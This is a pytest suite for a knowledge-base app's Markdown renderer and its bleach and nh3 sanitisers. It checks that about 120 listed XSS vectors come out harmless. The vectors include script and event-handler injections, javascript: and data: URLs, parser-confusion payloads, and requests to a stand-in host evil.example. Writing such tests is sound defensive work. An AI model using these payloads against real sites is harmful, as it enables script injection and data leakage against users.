"""Nothing that a text can hold becomes executable, and the two sanitisers agree (TRUST S1, S2)."""

import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from html import escape
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import pytest

from kb import resources
from kb.practices.document import read_document
from kb.practices.problems import Report
from kb.rendering import markdown as rendering
from kb.rendering.markdown import Links, Picture, render
from kb.rendering.sanitise import ATTRIBUTES, TAGS, sanitise, with_bleach, with_nh3

#: HTML that executes somewhere; each also goes through the renderer as Markdown.
HTML_VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src='javascript:alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>click</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=javascript:alert(1)//>",
    "<base target=_blank>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://kb.example/x'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a onclick=alert(1) href='https://kb.example/'>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p ONCLICK=alert(1)>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<select><style></select><script>alert(1)</script></style>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "</p><script>alert(1)</script><p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip

#: Markdown that tries to become such HTML.
MARKDOWN_VECTORS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](\\\\/evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example' onmouseover='alert(1))",
    '[x](https://a.example"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<javascript:alert(1)@a.example>",
    '<a@b.example"onmouseover="alert(1)>',
    "<https://a.example/\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](picture.png)',
    '![x](picture.png "\\" onerror=\\"alert(1)")',
    "![<script>alert(1)</script>](nothing.png)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\ncode\n```',
    "``` { .x onclick=alert(1) }\ncode\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "[^1]\n\n[^1]: [x](javascript:alert(1))",
    "## <img src=x onerror=alert(1)>",
    "# [x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "[x](\x02amp\x03#106;avascript:alert(1))",
)  # fmt: skip

LINKS = Links(picture=lambda _: Picture(url="/media/a/picture.png", width=1, height=1), file=lambda _: None)


def tree_of(html: str) -> ET.Element:
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    assert isinstance(fragment, ET.Element)
    return fragment


def rendered(source: str) -> str:
    text = render(source, LINKS)
    return text.lead + "".join(f"<h2>{escape(part.heading)}</h2>{part.html}" for part in text.sections) + text.footnotes


def dangers(html: str) -> list[str]:
    """Return what a browser would find in HTML that must not be there."""
    found: list[str] = []
    for element in [*tree_of(html).iter()][1:]:
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
            continue
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES.get(element.tag, set()):
                found.append(f"<{element.tag} {name}>")
            # As browsers do: line breaks and tabs inside an address are dropped, leading control characters too.
            address = "".join(value.split()).lstrip("".join(map(chr, range(33))))
            if name in {"href", "src"} and urlsplit(address).scheme.lower() not in {"", "http", "https", "mailto"}:
                found.append(f"{name}={value}")
    return found


def same_tree(one: ET.Element, other: ET.Element) -> bool:
    return (
        one.tag == other.tag
        and one.attrib == other.attrib
        and (one.text or "") == (other.text or "")
        and (one.tail or "") == (other.tail or "")
        and len(one) == len(other)
        and all(same_tree(first, second) for first, second in zip(one, other, strict=True))
    )


def test_there_are_enough_vectors() -> None:
    assert len({*HTML_VECTORS, *MARKDOWN_VECTORS}) >= 120


@pytest.mark.parametrize("clean", [sanitise, with_bleach, with_nh3])
@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_a_sanitiser_leaves_nothing_dangerous(clean: Callable[[str], str], vector: str) -> None:
    assert dangers(clean(vector)) == []


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_sanitising_twice_changes_nothing(vector: str) -> None:
    once = sanitise(vector)
    assert sanitise(once) == once


@pytest.mark.parametrize("vector", [*HTML_VECTORS, *MARKDOWN_VECTORS])
def test_a_rendered_text_holds_nothing_dangerous(vector: str) -> None:
    assert dangers(rendered(vector)) == []


@pytest.mark.parametrize("vector", [*HTML_VECTORS, *MARKDOWN_VECTORS])
def test_the_renderer_alone_lets_no_element_through(vector: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first wall holds without the second: raw HTML is text before any sanitiser sees it."""
    monkeypatch.setattr(rendering, "sanitise", lambda html: html)
    found = [danger for danger in dangers(rendered(vector)) if danger not in {"<br>", "<a rev>", "<img title>"}]
    assert [danger for danger in found if not danger.startswith(("<code class", "<pre"))] == []


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_raw_html_in_a_text_is_shown_as_text(vector: str) -> None:
    tags = {element.tag for element in tree_of(rendered(f"before {vector} after")).iter()}
    assert tags.isdisjoint({"script", "svg", "math", "img", "style", "iframe", "object", "form", "input", "video"})


@pytest.mark.parametrize("vector", [*HTML_VECTORS, *MARKDOWN_VECTORS])
def test_both_sanitisers_agree_on_what_the_renderer_makes_of_a_vector(vector: str) -> None:
    html = unsanitised(vector)
    assert same_tree(tree_of(with_bleach(html)), tree_of(with_nh3(html))), (with_bleach(html), with_nh3(html))


@pytest.mark.parametrize("folder", sorted(resources.starter_collection().iterdir()), ids=lambda folder: folder.name)
def test_both_sanitisers_agree_on_the_collection(folder: Path) -> None:
    for file in sorted(folder.glob("*.md")):
        document = read_document(file.read_bytes(), Report())
        assert document is not None
        html = unsanitised(document.text.body)
        assert same_tree(tree_of(with_bleach(html)), tree_of(with_nh3(html))), file.name


def unsanitised(source: str) -> str:
    # Bleach writes a question mark for each control character; that is not what the two are compared for.
    return rendering._parser(LINKS).convert(re.sub("[\x01-\x08\x0b-\x1f]", "", source))
